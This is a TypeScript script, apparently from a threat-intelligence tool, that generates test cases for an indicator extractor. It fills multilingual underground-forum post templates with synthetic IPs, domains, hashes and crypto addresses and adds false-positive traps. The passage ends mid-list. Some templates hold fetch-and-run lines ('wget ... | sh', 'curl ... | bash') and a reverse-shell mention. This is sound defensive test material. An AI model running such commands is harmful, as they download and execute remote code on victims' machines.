/**
 * Builds eval/iocs/cases.jsonl: forum-style posts in English, Russian and Chinese written as
 * templates, filled from pools of valid-by-construction indicator values (seeded, reproducible),
 * plus hand-written false-positive traps. Expected values follow the normalisation rules in
 * docs/iocs.md and are derived from the template, never from the extractor.
 *
 *   node --import tsx eval/iocs/build-cases.ts > eval/iocs/cases.jsonl
 */
import { domainToASCII } from 'node:url';
import {
  base58Address, cashAddress, ethAddress, hash, moneroAddress, onionV3, seededBytes, segwit, toxId,
} from './values.js';
import { seededRandom } from '../../src/core/random.js';

type Exp = [type: string, value: string][];
interface Filled { text: string; exp: Exp }

// The shared seeded generator, so the generated text is the same on every run.
const rand = seededRandom(0x5eed1234);
function pick<T>(xs: readonly T[]): T {
  return xs[Math.floor(rand() * xs.length)] as T;
}
let counter = 0;
const uniq = (p: string): string => `${p}-${counter++}`;

// ---------------------------------------------------------------- value pools
const DOMAINS = [
  'secure-login-check.ru', 'update-cdn-service.com', 'panel-gate.top', 'wallet-verify.xyz', 'mirror-files.net',
  'docs-share.info', 'cloud-sync-api.org', 'checkout-pay.store', 'crypt-service.su', 'dropfiles.cc',
  'auth-portal.online', 'fresh-logs.shop', 'load-bot.site', 'cdn-static-js.com', 'telemetry-hub.io',
  'vpn-secure-node.net', 'billing-center.biz', 'mega-upload.pw', 'steam-trade-offer.ru', 'office365-login.support',
  'api.panel-gate.top', 'cdn.mirror-files.net', 'mail.crypt-service.su', 'stat.load-bot.site',
];
const IDN_DOMAINS = ['пример-сайт.рф', 'магазин-логов.рф', 'bücher-shop.de', 'почта-вход.com'];
const PUBLIC_IPS = [
  '45.142.212.61', '185.220.101.34', '91.215.85.17', '193.42.33.14', '5.188.206.210', '194.26.29.113',
  '103.79.77.134', '141.98.10.63', '77.91.124.55', '62.233.50.245', '212.193.30.21', '109.107.182.9',
  '146.70.113.4', '89.185.85.44', '195.123.246.138', '23.106.223.97',
];
const PRIVATE_IPS = ['192.168.1.15', '10.10.0.5', '172.16.8.200', '127.0.0.1', '100.64.12.7'];
const IPV6 = ['2a03:2880:f10c:83:face:b00c:0:25de', '2001:67c:2e8:22::c100:68b', '2a0e:fd87:9c41::1', '2604:a880:400:d0::1f4b:6001', 'fe80::1c2d:3eff:fe4a:9b01'];
const PATHS = ['/gate.php', '/panel/login.php?id=17', '/files/build_v3.zip', '/api/v1/report', '/admin/', '/download/invoice.pdf.exe', '/wp-content/plugins/wp-file/shell.php', '/c2/beacon', '/stage2.bin', '/?ref=forum', '/s/8f3kd9'];
const EMAIL_LOCAL = ['support', 'admin', 'seller', 'rootkit.dev', 'bulletproof', 'drop.master', 'info', 'sales', 'logs-shop', 'anon1337'];
const EMAIL_HOSTS = ['proton.me', 'onionmail.org', 'cock.li', 'tutanota.com', 'mail.ru', 'yandex.ru', 'gmail.com', 'dnmx.org', 'secmail.pro', 'firemail.cc'];
const XMPP = ['darkseller@exploit.im', 'crypt0r@jabber.ru', 'silent@xmpp.jp', 'bulletproof@thesecure.biz', 'logs_dealer@jabb.im', 'nightowl@404.city'];
const TG_HANDLES = ['dark_logs_shop', 'cryptor_support', 'bp_hosting_bot', 'fresh_cc_seller', 'zer0day_market', 'Access_Broker_RU', 'stealer_logs_cn'];
const TG_INVITES = ['Xk3jP9aQmZ1hY2Ex', 'AAAAAEfHq7Lm0pQ', 'q8RtZ0bN4vKc'];
const DISCORD = ['r4tGang', 'Xp9Qz2Lm', 'nitrogen', 'crackhub'];
const FILES = ['invoice_2024.pdf.exe', 'loader.dll', 'update.ps1', 'payload.bin', 'Stealer_v2.zip', 'svchost.exe', 'run.bat', 'config.json', 'dump.sql', 'wallet.dat', 'AnyDesk.exe', 'setup.msi', 'crypter.rar', 'keylogger.py', 'build.sh', 'Документы_2024.docm', 'report.xlsm', 'backdoor.jar'];
const WIN_PATHS = ['C:\\Users\\Public\\Documents\\svc.exe', 'C:\\ProgramData\\Microsoft\\crypt.dll', '%APPDATA%\\Telegram Desktop\\tdata', '%TEMP%\\stage1.ps1', 'C:\\Windows\\System32\\drivers\\etc\\hosts', 'C:\\Users\\admin\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data'];
const UNIX_PATHS = ['/etc/passwd', '/tmp/.X11-unix/.rsync/c', '/var/www/html/shell.php', '/root/.ssh/authorized_keys', '/usr/local/bin/kworker', '~/.bash_history', '/dev/shm/xmrig'];
const REG = [
  ['HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'],
  ['HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend', 'HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\WinDefend'],
  ['HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon', 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon'],
  ['HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command', 'HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\shell\\open\\command'],
  ['HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce', 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce'],
] as const;
const MACS = [['00:1A:2B:3C:4D:5E', '00:1a:2b:3c:4d:5e'], ['f4-5c-89-a1-0b-7e', 'f4:5c:89:a1:0b:7e'], ['0050.56c0.0001', '00:50:56:c0:00:01'], ['08:00:27:D3:91:AF', '08:00:27:d3:91:af']] as const;
const ASNS = [['AS9009', 'AS9009'], ['AS44477', 'AS44477'], ['AS48693', 'AS48693'], ['ASN 205090', 'AS205090'], ['AS200019', 'AS200019'], ['ASN:58061', 'AS58061']] as const;
const I2P = ['forum.i2p', 'zzz.i2p', 'logsmarket.i2p', 'ukeu3k5oycgaauneqgtnvselmt4yemvoilkln7jpvamvfx7dnkdq.b32.i2p'];
const CVES = ['CVE-2021-44228', 'CVE-2023-34362', 'CVE-2024-3400', 'CVE-2023-4966', 'CVE-2022-26134', 'CVE-2019-19781', 'CVE-2021-26855', 'CVE-2023-22515', 'CVE-2024-21762', 'CVE-2017-11882', 'CVE-2024-1709'];
const CWES = ['CWE-79', 'CWE-89', 'CWE-787', 'CWE-22', 'CWE-502', 'CWE-78'];
const TECH = ['T1059', 'T1566', 'T1486', 'T1055', 'T1003', 'T1105', 'T1190', 'T1071'];
const SUBTECH = ['T1059.001', 'T1566.001', 'T1003.001', 'T1547.001', 'T1055.012'];
const TACTICS = ['TA0001', 'TA0002', 'TA0005', 'TA0011', 'TA0040'];
const GROUPS = ['G0007', 'G0016', 'G0032', 'G0034', 'G0046'];
const SOFTWARE = ['S0154', 'S0002', 'S0650', 'S0575', 'S0266'];

function ssdeep(label: string): string {
  const b64 = (n: number, l: string): string => Buffer.from(seededBytes(l, n)).toString('base64').replace(/=+$/, '');
  return `${pick(['3072', '1536', '6144', '768', '24576'])}:${b64(45, `${label}a`).slice(0, 58)}:${b64(24, `${label}b`).slice(0, 30)}`;
}
function tlsh(label: string): string {
  return `T1${Buffer.from(seededBytes(label, 35)).toString('hex').toUpperCase()}`;
}

// ---------------------------------------------------------------- defanging
const dotForms = ['[.]', '(.)', '[dot]', '(dot)', '{.}', ' [.] '];
function defangHost(h: string): string {
  const form = pick(dotForms);
  return h.split('.').join(form);
}
function defangLastDot(h: string): string {
  const i = h.lastIndexOf('.');
  return `${h.slice(0, i)}${pick(['[.]', '(.)', '[dot]'])}${h.slice(i + 1)}`;
}
function defangScheme(url: string): string {
  return url.replace(/^http/, pick(['hxxp', 'hXXp', 'hxxp']))
    .replace('://', pick(['://', '[://]', '[:]//']));
}

// ---------------------------------------------------------------- placeholders
function host(kind: 'dom' | 'idn'): { shown: string; norm: string } {
  if (kind === 'idn') {
    const d = pick(IDN_DOMAINS);
    return { shown: d, norm: domainToASCII(d) };
  }
  const d = pick(DOMAINS);
  return { shown: d, norm: d };
}

const FILLERS: Record<string, () => Filled> = {
  ip: () => { const ip = pick(PUBLIC_IPS); return { text: ip, exp: [['ipv4', ip]] }; },
  ip_d: () => { const ip = pick(PUBLIC_IPS); return { text: defangLastDot(ip), exp: [['ipv4', ip]] }; },
  ip_all_d: () => { const ip = pick(PUBLIC_IPS); return { text: ip.split('.').join('[.]'), exp: [['ipv4', ip]] }; },
  ip_port: () => { const ip = pick(PUBLIC_IPS); const port = pick(['8080', '443', '4444', '1337', '3389', '9001']); return { text: `${ip}:${port}`, exp: [['ipv4', ip]] }; },
  ip_port_d: () => { const ip = pick(PUBLIC_IPS); const port = pick(['8080', '4444', '5555']); return { text: `${defangLastDot(ip)}[:]${port}`, exp: [['ipv4', ip]] }; },
  cidr: () => { const ip = pick(PUBLIC_IPS).replace(/\.\d+$/, '.0'); const p = pick(['24', '22', '16']); return { text: `${ip}/${p}`, exp: [['ipv4', `${ip}/${p}`]] }; },
  priv: () => { const ip = pick(PRIVATE_IPS); return { text: ip, exp: [['ipv4', ip]] }; },
  ip6: () => { const ip = pick(IPV6); return { text: ip, exp: [['ipv6', ip]] }; },
  dom: () => { const h = host('dom'); return { text: h.shown, exp: [['domain', h.norm]] }; },
  dom_d: () => { const h = host('dom'); return { text: defangHost(h.shown), exp: [['domain', h.norm]] }; },
  idn: () => { const h = host('idn'); return { text: h.shown, exp: [['domain', h.norm]] }; },
  url: () => {
    const h = host('dom'); const p = pick(PATHS); const s = pick(['http', 'https']);
    return { text: `${s}://${h.shown}${p}`, exp: [['url', `${s}://${h.norm}${p}`], ['domain', h.norm]] };
  },
  url_d: () => {
    const h = host('dom'); const p = pick(PATHS); const s = pick(['http', 'https']);
    return { text: defangScheme(`${s}://${defangLastDot(h.shown)}${p}`), exp: [['url', `${s}://${h.norm}${p}`], ['domain', h.norm]] };
  },
  url_ip: () => {
    const ip = pick(PUBLIC_IPS); const p = pick(PATHS); const port = pick(['', ':8080', ':443']);
    return { text: `http://${ip}${port}${p}`, exp: [['url', `http://${ip}${port}${p}`], ['ipv4', ip]] };
  },
  url_ip_d: () => {
    const ip = pick(PUBLIC_IPS); const p = pick(PATHS);
    return { text: `hxxp://${defangLastDot(ip)}${p}`, exp: [['url', `http://${ip}${p}`], ['ipv4', ip]] };
  },
  email: () => { const e = `${pick(EMAIL_LOCAL)}@${pick(EMAIL_HOSTS)}`; return { text: e, exp: [['email', e]] }; },
  email_d: () => {
    const l = pick(EMAIL_LOCAL); const h = pick(EMAIL_HOSTS);
    const at = pick(['[at]', '(at)', '[@]', ' [at] ', '{at}']);
    return { text: `${l}${at}${pick([h, defangLastDot(h)])}`, exp: [['email', `${l}@${h}`]] };
  },
  onion: () => { const o = onionV3(uniq('onion')); return { text: o, exp: [['onion', o]] }; },
  onion_url: () => { const o = onionV3(uniq('onion')); const p = pick(['/', '/login', '/forum/index.php', '/market']); return { text: `http://${o}${p}`, exp: [['url', `http://${o}${p}`], ['onion', o]] }; },
  onion_d: () => { const o = onionV3(uniq('onion')); return { text: o.replace('.onion', '[.]onion'), exp: [['onion', o]] }; },
  i2p: () => { const d = pick(I2P); return { text: d, exp: [['i2p', d]] }; },
  md5: () => { const h = hash('md5', uniq('m')); return { text: h, exp: [['md5', h]] }; },
  MD5: () => { const h = hash('md5', uniq('m')); return { text: h.toUpperCase(), exp: [['md5', h]] }; },
  sha1: () => { const h = hash('sha1', uniq('s1')); return { text: h, exp: [['sha1', h]] }; },
  sha256: () => { const h = hash('sha256', uniq('s2')); return { text: h, exp: [['sha256', h]] }; },
  SHA256: () => { const h = hash('sha256', uniq('s2')); return { text: h.toUpperCase(), exp: [['sha256', h]] }; },
  sha512: () => { const h = hash('sha512', uniq('s5')); return { text: h, exp: [['sha512', h]] }; },
  ssdeep: () => { const s = ssdeep(uniq('ss')); return { text: s, exp: [['ssdeep', s]] }; },
  tlsh: () => { const t = tlsh(uniq('tl')); return { text: t, exp: [['tlsh', t]] }; },
  cve: () => { const c = pick(CVES); return { text: c, exp: [['cve', c]] }; },
  cve_lc: () => { const c = pick(CVES); return { text: c.toLowerCase(), exp: [['cve', c]] }; },
  cwe: () => { const c = pick(CWES); return { text: c, exp: [['cwe', c]] }; },
  tech: () => { const t = pick(TECH); return { text: t, exp: [['attack-technique', t]] }; },
  subtech: () => { const t = pick(SUBTECH); return { text: t, exp: [['attack-subtechnique', t]] }; },
  tactic: () => { const t = pick(TACTICS); return { text: t, exp: [['attack-tactic', t]] }; },
  group: () => { const t = pick(GROUPS); return { text: t, exp: [['attack-group', t]] }; },
  software: () => { const t = pick(SOFTWARE); return { text: t, exp: [['attack-software', t]] }; },
  btc: () => { const a = base58Address([pick([0x00, 0x05])], uniq('btc')); return { text: a, exp: [['btc', a]] }; },
  btc32: () => { const a = rand() < 0.5 ? segwit('bc', 0, uniq('bc')) : segwit('bc', 1, uniq('bcp'), 32); return { text: a, exp: [['btc', a]] }; },
  eth: () => { const a = ethAddress(uniq('eth')); const shown = rand() < 0.3 ? a.toLowerCase() : a; return { text: shown, exp: [['eth', a.toLowerCase()]] }; },
  xmr: () => { const a = moneroAddress(uniq('xmr')); return { text: a, exp: [['xmr', a]] }; },
  ltc: () => { const a = rand() < 0.7 ? base58Address([0x30], uniq('ltc')) : segwit('ltc', 0, uniq('ltc1')); return { text: a, exp: [['ltc', a]] }; },
  bch: () => { const a = cashAddress(uniq('bch')); const pre = rand() < 0.6; return { text: pre ? `bitcoincash:${a}` : a, exp: [['bch', `bitcoincash:${a}`]] }; },
  doge: () => { const a = base58Address([0x1e], uniq('doge')); return { text: a, exp: [['doge', a]] }; },
  trx: () => { const a = base58Address([0x41], uniq('trx')); return { text: a, exp: [['trx', a]] }; },
  dash: () => { const a = base58Address([0x4c], uniq('dash')); return { text: a, exp: [['dash', a]] }; },
  zec: () => { const a = base58Address([0x1c, 0xb8], uniq('zec')); return { text: a, exp: [['zec', a]] }; },
  tg: () => { const h = pick(TG_HANDLES); return { text: `@${h}`, exp: [['telegram', `@${h.toLowerCase()}`]] }; },
  tg_link: () => {
    if (rand() < 0.4) { const i = pick(TG_INVITES); return { text: `https://t.me/+${i}`, exp: [['telegram', `t.me/+${i}`]] }; }
    const h = pick(TG_HANDLES); return { text: `${pick(['', 'https://'])}t.me/${h}`, exp: [['telegram', `@${h.toLowerCase()}`]] };
  },
  xmpp: () => { const x = pick(XMPP); return { text: x, exp: [['xmpp', x]] }; },
  tox: () => { const t = toxId(uniq('tox')); return { text: t, exp: [['tox', t]] }; },
  session: () => { const s = `05${hash('sha256', uniq('sess'))}`; return { text: s, exp: [['session', s]] }; },
  discord: () => { const d = pick(DISCORD); return { text: `${pick(['discord.gg/', 'https://discord.gg/', 'https://discord.com/invite/'])}${d}`, exp: [['discord', `discord.gg/${d}`]] }; },
  pgp: () => {
    const f = hash('sha1', uniq('pgp')).toUpperCase();
    const spaced = f.match(/.{4}/g)!.map((g, i) => (i === 5 ? ` ${g}` : g)).join(' ');
    return { text: spaced, exp: [['pgp-fingerprint', f]] };
  },
  file: () => { const f = pick(FILES); return { text: f, exp: [['filename', f]] }; },
  winpath: () => { const p = pick(WIN_PATHS); return { text: p, exp: [['filepath', p]] }; },
  unixpath: () => { const p = pick(UNIX_PATHS); return { text: p, exp: [['filepath', p]] }; },
  reg: () => { const [shown, norm] = pick(REG); return { text: shown, exp: [['registry-key', norm]] }; },
  mac: () => { const [shown, norm] = pick(MACS); return { text: shown, exp: [['mac', norm]] }; },
  asn: () => { const [shown, norm] = pick(ASNS); return { text: shown, exp: [['asn', norm]] }; },
};

// ---------------------------------------------------------------- templates (EN / RU / ZH)
const TEMPLATES: string[] = [
  // English: sales, help requests, leaks, write-ups
  'Selling fresh RDP access, corporate network, US based. Test box is {ip_port}, full list after escrow. Contact TG {tg}',
  'New build of the loader is up. Panel: {url_d} (don\'t click from your main machine lol). Payload hash {sha256}',
  'C2 rotated again. Old: {ip_d} New: {ip_all_d}. Bots reconnect within 10 min.',
  '[quote]where do I get the stub?[/quote] Download from {url} and use password infected. MD5: {md5}',
  'Found this in my honeypot logs:\n```\nwget {url_ip} -O- | sh\n```\nanyone seen {sha1} before?',
  'Exploit for {cve} works on unpatched boxes, tested against {ip}. Write-up maps it to {tech} and {subtech}.',
  'Escrow only. BTC: {btc} or XMR: {xmr}. No refunds after delivery.',
  'Payment to {btc32} (segwit only pls), or USDT TRC20 {trx}',
  'ETH donations: {eth} — thanks to everyone who supported the project',
  'Our mirror on tor: {onion_url} — clearnet {dom_d} is seized',
  'Jabber: {xmpp} | Tox: {tox}',
  'Reach me on Session {session} or discord {discord}',
  'My PGP key fingerprint: {pgp}. Verify before sending anything.',
  'Dropper writes {winpath} and persists via {reg}. Attribution: looks like {group} using {software}.',
  'Miner drops to {unixpath} and adds a cron job. Pool at {dom}, wallet {xmr}',
  'Infected host MAC {mac}, announced via {asn}. Kill switch domain {dom_d}',
  'Phishing kit, spoofs {idn}. Logs sent to {email_d}',
  'Sample: {file} ({MD5}), ssdeep {ssdeep}',
  'TLSH {tlsh} matches last week\'s cluster, tactic {tactic}',
  'The vuln is {cwe} (SQLi) in the login form, assigned {cve_lc}',
  'Anyone have a working bypass? IPv6 of the target: {ip6}, v4 {ip}',
  'Internal scan showed {priv} and {cidr} exposed, VPN endpoint {ip_port_d}',
  'LTC: {ltc}, DOGE: {doge}, BCH: {bch}, DASH {dash}',
  'Zcash transparent addr {zec} for the private channel',
  'Join our chat {tg_link} — invites rotate weekly',
  'Logs cloud: {tg_link}, backup email {email}',
  'i2p eepsite {i2p} is the only official mirror now',
  'Sha512 of the archive for the paranoid: {sha512}',
  'report: {url_d}\nreport2: {url_d}\nboth serve {file}',
  '**IOCs**\n- {ip_d}\n- {dom_d}\n- {sha256}\n- {url_d}',
  '[b]C2:[/b] {ip} [b]Domain:[/b] {dom} [url={url}]details[/url]',
  '| type | value |\n|---|---|\n| ip | `{ip}` |\n| domain | `{dom_d}` |\n| hash | `{md5}` |',
  'Stealer grabs browser data from {winpath} and sends it to {url_ip_d}',
  'Ransom note says contact {email} or {onion_d}, {tactic} then encryption ({tech})',
  'CVE list for the kit: {cve}, {cve}, {cve}',
  'Access broker, wallet {btc}, contact via jabber {xmpp}',
  'sample {SHA256} beacons to {dom_d} over 443',
  // Russian
  'Продаю доступы в корпоративные сети, тестовый хост {ip_port}. Связь только телега {tg}',
  'Новый билд лоадера залил на {url_d}, хеш {md5}. Чистка под дефендер.',
  'Админка тут: {url_d} , резерв {dom_d}. Жаба: {xmpp}',
  'Оплата BTC {btc} или XMR {xmr}, гарант обязателен.',
  'Пишите в тг: {tg}, либо на почту {email_d}',
  'Эксплойт под {cve} работает, проверял на {ip}. Техника {tech}.',
  'Лог с ханипота:\n[code]\ncurl -s {url_ip} | bash\n[/code]\nкто видел {sha256}?',
  'Зеркало в торе: {onion_url}, старый домен {dom} больше не работает',
  'Крипт файла {file}, детектов 0/26, хеш {sha1}',
  'Автозапуск через {reg}, файл кладётся в {winpath}',
  'Майнер лежит в {unixpath}, пул {dom_d}, кошелек {xmr}',
  'Сайт-клон {idn} собирает данные, логи уходят на {email}',
  'ETH кошелек для оплаты: {eth}, USDT TRC20: {trx}',
  'Tox для связи: {tox}',
  'Отпечаток PGP ключа: {pgp}',
  'Сервер в {asn}, адрес {ip_d}, IPv6 {ip6}',
  'Внутренняя сеть: {priv}, подсеть {cidr}',
  'Наш канал: {tg_link}. Дискорд: {discord}',
  'ssdeep семпла {ssdeep}, tlsh {tlsh}',
  'Группа {group} использует {software}, тактика {tactic}, подтехника {subtech}',
  'LTC {ltc}, DOGE {doge}, BCH {bch}',
  'Уязвимость {cwe} в панели, CVE присвоен: {cve}',
  'Адрес:{ip_d},порт 4444. Домен:{dom_d}',
  // Chinese
  '出售企业内网权限，测试机{ip_port}，联系电报{tg}',
  '新版本加载器已上传到{url_d}，MD5是{md5}',
  '服务器在{ip}上面，域名是{dom}，备用{dom_d}',
  '钓鱼页面仿冒{idn}，数据发到{email_d}',
  '付款地址BTC：{btc}，或者USDT（TRC20）：{trx}',
  '漏洞{cve}的利用代码，测试目标{ip_d}，技术编号{tech}',
  '暗网镜像：{onion_url}',
  '样本哈希{sha256}，回连{url_ip_d}',
  '持久化写入{reg}，文件释放到{winpath}',
  '加我飞机{tg}或者Session：{session}',
  'XMR钱包{xmr}，ETH钱包{eth}',
  '该组织{group}使用{software}，战术{tactic}',
  '矿工程序放在{unixpath}，矿池{dom_d}',
  '设备MAC地址{mac}，所属{asn}',
  'PGP指纹：{pgp}',
  '内网地址{priv}，网段{cidr}，IPv6地址{ip6}',
  '文件{file}的SHA1是{sha1}，ssdeep是{ssdeep}',
  '群组链接{tg_link}，Discord：{discord}',
  'i2p地址{i2p}，Tox：{tox}',
  '弱点类型{cwe}，对应{cve}',
];

function fill(template: string): Filled {
  const exp: Exp = [];
  const text = template.replace(/\{(\w+)\}/g, (_m, name: string) => {
    const filler = FILLERS[name];
    if (filler === undefined) throw new Error(`unknown placeholder ${name}`);
    const f = filler();
    exp.push(...f.exp);
    return f.text;
  });
  return { text, exp };
}

function toExpected(exp: Exp): Record<string, string[]> {
  const out: Record<string, string[]> = {};
  for (const [t, v] of exp) {
    const list = (out[t] ??= []);
    if (!list.includes(v)) list.push(v);
  }
  return out;
}

interface Case { text: string; expected: Record<string, string[]>; exhaustive?: boolean; note?: string }
const cases: Case[] = [];

for (let round = 0; round < 3; round++) {
  for (const t of TEMPLATES) {
    const { text, exp } = fill(t);
    cases.push({ text, expected: toExpected(exp) });
  }
}

// ---------------------------------------------------------------- hand-written traps and edge cases
const traps: Case[] = [
  { note: 'filename like domain', text: 'Run setup.py first, then source config.sh and check main.go', expected: { filename: ['setup.py', 'config.sh', 'main.go'] } },
  { note: 'filename like domain', text: 'uploaded the video as demo.mov and the sources as backup.zip', expected: { filename: ['demo.mov', 'backup.zip'] } },
  { note: 'filename like domain', text: 'Скачай build.rs и README.md, потом запусти install.sh', expected: { filename: ['build.rs', 'README.md', 'install.sh'] } },
  { note: 'filename like domain', text: '先运行update.py，然后打开release.zip', expected: { filename: ['update.py', 'release.zip'] } },
  { note: 'defanged .zip is a domain', text: 'Phishing lure hosted on invoice-docs[.]zip and login-portal[.]mov', expected: { domain: ['invoice-docs.zip', 'login-portal.mov'] } },
  { note: 'version string', text: 'Updated to version 1.2.3.4 yesterday, still crashes', expected: {} },
  { note: 'version string', text: 'Works on Windows 10 build 10.0.19041.1 and v2.4.1.8', expected: {} },
  { note: 'version string', text: 'User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0.0.0 Safari/537.36', expected: {} },
  { note: 'version string', text: 'Версия 3.1.0.2 уже в продаже, прошивка 1.0.0.15', expected: {} },
  { note: 'version string', text: '版本 4.2.0.1 修复了崩溃问题', expected: {} },
  { note: 'version string / OID', text: 'OID 1.3.6.1.4.1.311.2.1.21 marks code signing, and 5.4.3.2.1 is not an IP', expected: {} },
  { note: 'hash in longer hex run', text: `blob: ${hash('md5', 'x1')}f and ${hash('sha256', 'x2')}${hash('md5', 'x3')}`, expected: {} },
  { note: 'hash in longer hex run', text: `raw key material ${hash('sha512', 'k')}${hash('sha1', 'k')} do not share`, expected: {} },
  { note: 'hash in longer hex run', text: `tx 0x${hash('sha256', 'tx')} confirmed`, expected: {} },
  { note: 'hash adjacent letters', text: `id=${hash('md5', 'y')}g is not a hash`, expected: {} },
  { note: 'sentence-joined dots', text: 'It works.Then I restarted the service.Nothing changed', expected: {} },
  { note: 'sentence-joined dots', text: 'Всё работает.Пишите в лс.Отвечу', expected: {} },
  { note: 'sentence-joined dots', text: 'Check it.It is fine now.Thanks all', expected: {} },
  { note: 'sentence-joined dots', text: 'i.e. the loader, e.g. the panel, etc. т.е. всё', expected: {} },
  { note: 'markdown artefacts', text: '**IOC:** `evil-updates.com` and __init__.py', expected: { domain: ['evil-updates.com'], filename: ['__init__.py'] } },
  { note: 'markdown artefacts', text: 'see [the report](https://blog-intel.net/apt/report.html).', expected: { url: ['https://blog-intel.net/apt/report.html'], domain: ['blog-intel.net'] } },
  { note: 'markdown artefacts', text: '(mirror: https://files-drop.org/a/b)', expected: { url: ['https://files-drop.org/a/b'], domain: ['files-drop.org'] } },
  { note: 'bbcode artefacts', text: '[quote=dark.name]lol[/quote] [b]77.91.124.55[/b] [url=http://cheap-rdp.store/shop]shop[/url]', expected: { ipv4: ['77.91.124.55'], url: ['http://cheap-rdp.store/shop'], domain: ['cheap-rdp.store'] } },
  { note: 'bbcode artefacts', text: '[img]https://imgs-host.net/i/a8f.png[/img][color=red]panel-gate.top[/color]', expected: { url: ['https://imgs-host.net/i/a8f.png'], domain: ['imgs-host.net', 'panel-gate.top'] } },
  { note: 'code attribute access', text: '```python\nimport os\nos.system(cmd)\nself.name = data.info\nresponse.json()\n```', expected: {} },
  { note: 'private IPs flagged not dropped', text: 'my lab: 192.168.56.101, 10.0.2.15 and gateway 172.16.0.1', expected: { ipv4: ['192.168.56.101', '10.0.2.15', '172.16.0.1'] } },
  { note: 'benign domains flagged not dropped', text: 'upload to github.com or google.com, not to paste-evil.net', expected: { domain: ['github.com', 'google.com', 'paste-evil.net'] } },
  { note: 'dates and times', text: 'Posted 2024-01-15 12:30:45, edited 15.01.2024 at 13:05', expected: {} },
  { note: 'C++ scope not IPv6', text: 'use std::vector and A::B::c in the hook, build with cl.exe', expected: { filename: ['cl.exe'] } },
  { note: 'mentions without telegram context', text: '@everyone the update is live, thanks @moderator_team', expected: {} },
  { note: 'bad btc checksum', text: `send to ${base58Address([0], 'badsum').slice(0, -1)}${base58Address([0], 'badsum').endsWith('a') ? 'b' : 'a'} pls`, expected: {} },
  { note: 'bad eip55 checksum', text: `wallet ${ethAddress('bad').replace(/[a-f]/, (c) => c.toUpperCase()).replace(/[A-F](?=[^A-F]*$)/, (c) => c.toLowerCase())}`, expected: {} },
  { note: 'url trailing punctuation', text: 'grab it here: https://drop-zone.biz/f/9k2.zip, then run it.', expected: { url: ['https://drop-zone.biz/f/9k2.zip'], domain: ['drop-zone.biz'] } },
  { note: 'split across lines', text: 'panel: hxxp://evil-panel[.]\nru/gate.php', expected: { url: ['http://evil-panel.ru/gate.php'], domain: ['evil-panel.ru'] } },
  { note: 'cjk adjacency', text: '服务器地址是45.142.212.61端口8080，域名evil-cdn.com已经上线', expected: { ipv4: ['45.142.212.61'], domain: ['evil-cdn.com'] } },
  { note: 'fullwidth dot', text: '新域名：bad-site．com 和 evil-host。net', expected: { domain: ['bad-site.com', 'evil-host.net'] } },
  { note: 'zero-width', text: 'C2 evil-c2\u200b.com and 91.215\u200b.85.17', expected: { domain: ['evil-c2.com'], ipv4: ['91.215.85.17'] } },
  { note: 'spaced brackets', text: 'domain: updates-check [.] com , ip: 5.188.206 [.] 210', expected: { domain: ['updates-check.com'], ipv4: ['5.188.206.210'] } },
  { note: 'word defang', text: 'mail me: opsec[at]proton[dot]me, site darkshop[dot]cc', expected: { email: ['opsec@proton.me'], domain: ['darkshop.cc'] } },
  { note: 'russian defang', text: 'почта: seller[собака]mail[точка]ru', expected: { email: ['seller@mail.ru'] } },
  { note: 'scheme defang', text: 'hXXps[:]//secure-docs[.]info/view and fxp://files-ftp[.]net/pub', expected: { url: ['https://secure-docs.info/view', 'ftp://files-ftp.net/pub'], domain: ['secure-docs.info', 'files-ftp.net'] } },
  { note: 'ip port defang', text: 'shell back to 146.70.113[.]4[:]9001', expected: { ipv4: ['146.70.113.4'] } },
  { note: 'unknown attack ids are still reported', text: 'the report cites T1999 and G9999 which do not exist, plus T1059', expected: { 'attack-technique': ['T1999', 'T1059'], 'attack-group': ['G9999'] } },
  { note: 'registry key with spaced last component', text: 'disables AV via HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender', expected: { 'registry-key': ['HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender'] } },
  { note: 'xmpp uri', text: 'contact xmpp:ghost@chatterbox.town for access', expected: { xmpp: ['ghost@chatterbox.town'] } },
  { note: 'email not xmpp', text: 'billing questions: billing@hosting-bp.net', expected: { email: ['billing@hosting-bp.net'] } },
  { note: 'pgp fingerprint inline', text: `gpg fingerprint ${hash('sha1', 'pgp-inline').toUpperCase()}`, expected: { 'pgp-fingerprint': [hash('sha1', 'pgp-inline').toUpperCase()] } },
  { note: 'tlsh bare with keyword', text: `tlsh: ${Buffer.from(seededBytes('tlsh-bare', 35)).toString('hex').toUpperCase()}`, expected: { tlsh: [Buffer.from(seededBytes('tlsh-bare', 35)).toString('hex').toUpperCase()] } },
  { note: 'ssdeep bad block size', text: '5000:abcdefghijklmnopqrstuvwxyz012345:abcdefghijklmnop is not ssdeep', expected: {} },
  { note: 'ipv6 with brackets and port', text: 'listener on [2a0e:fd87:9c41::1]:8443 and 2001:db8::dead:beef', expected: { ipv6: ['2a0e:fd87:9c41::1', '2001:db8::dead:beef'] } },
  { note: 'ipv6 compressed forms normalised', text: 'addr 2001:0DB8:0000:0000:0000:0000:0000:0001', expected: { ipv6: ['2001:db8::1'] } },
  { note: 'exhaustive false', text: `dump of 200 bots, first ones: 45.142.212.61, 185.220.101.34, mirror files-drop.org, hash ${hash('md5', 'partial')}`, expected: { ipv4: ['45.142.212.61'] }, exhaustive: false },
  { note: 'exhaustive false', text: 'Лог: 91.215.85.17, 193.42.33.14, 5.188.206.210 и панель panel-gate.top', expected: { domain: ['panel-gate.top'] }, exhaustive: false },
  { note: 'onion v2', text: 'old v2 mirror expyuzz4wqqyqhjn.onion is dead', expected: { onion: ['expyuzz4wqqyqhjn.onion'] } },
